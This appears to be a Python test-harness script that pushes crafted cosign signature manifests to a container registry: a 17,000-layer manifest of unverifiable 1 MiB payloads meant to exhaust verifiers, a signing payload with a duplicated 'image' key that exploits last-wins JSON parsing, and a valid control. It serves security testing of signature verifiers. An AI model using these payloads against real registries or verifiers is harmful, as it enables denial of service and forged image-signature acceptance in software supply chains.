# push_signatures.py ADDR COSIGN_KEY: three images, each with a cosign signature manifest under
# sha256-<hex>.sig as cosign writes one (image config, simple-signing layers with the
# signature in dev.cosignproject.cosign/signature):
#   attacks/many:1   17,000 layers, each the same 1 MiB payload with a signature that is no
#                    ECDSA signature (every payload must be fetched before that is seen)
#   attacks/dupkey:1 one payload signed by the key in which "image" appears twice: first naming
#                    another digest, then this image's (a last-wins parser reads this image's)
#   attacks/good:1   one valid signature (the control)
import json, sys
from attacklib import *
addr, key = sys.argv[1], sys.argv[2]

def sig_manifest(repo, layers):
    cfg = json.dumps({"architecture": "", "os": "", "config": {},
                      "rootfs": {"type": "layers", "diff_ids": sorted({l["digest"] for l in layers})}}).encode()
    upload(addr, repo, cfg)
    return json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                       "config": desc(OCI_CONFIG, cfg), "layers": layers},
                      separators=(",", ":")).encode()

def push_sig(repo, subject, layers):
    m = sig_manifest(repo, layers)
    assert len(m) <= 4 << 20, len(m)
    put_manifest(addr, repo, "sha256-%s.sig" % subject[7:], OCI_MANIFEST, m)
    return len(m)

img = push_image(addr, "attacks/many", "1", "many")
payload = simple_signing(f"{addr}/attacks/many", img["digest"])
payload += b" " * ((1 << 20) - len(payload))
upload(addr, "attacks/many", payload)
layer = desc(SIMPLE_SIGNING, payload, annotations={"dev.cosignproject.cosign/signature": "AA=="})
print("many: .sig manifest of", push_sig("attacks/many", img["digest"], [layer] * 17000), "bytes")

img = push_image(addr, "attacks/dupkey", "1", "dupkey")
other = push_image(addr, "attacks/dupkey", "other", "other")
payload = ('{"critical":{"identity":{"docker-reference":"%s/attacks/dupkey"},'
           '"image":{"docker-manifest-digest":"%s"},'
           '"type":"cosign container image signature",'
           '"image":{"docker-manifest-digest":"%s"}},"optional":null}'
           % (addr, other["digest"], img["digest"])).encode()
upload(addr, "attacks/dupkey", payload)
layer = desc(SIMPLE_SIGNING, payload,
             annotations={"dev.cosignproject.cosign/signature": ec_sign_b64(key, payload)})
push_sig("attacks/dupkey", img["digest"], [layer])

img = push_image(addr, "attacks/good", "1", "good")
payload = simple_signing(f"{addr}/attacks/good", img["digest"])
upload(addr, "attacks/good", payload)
layer = desc(SIMPLE_SIGNING, payload,
             annotations={"dev.cosignproject.cosign/signature": ec_sign_b64(key, payload)})
push_sig("attacks/good", img["digest"], [layer])
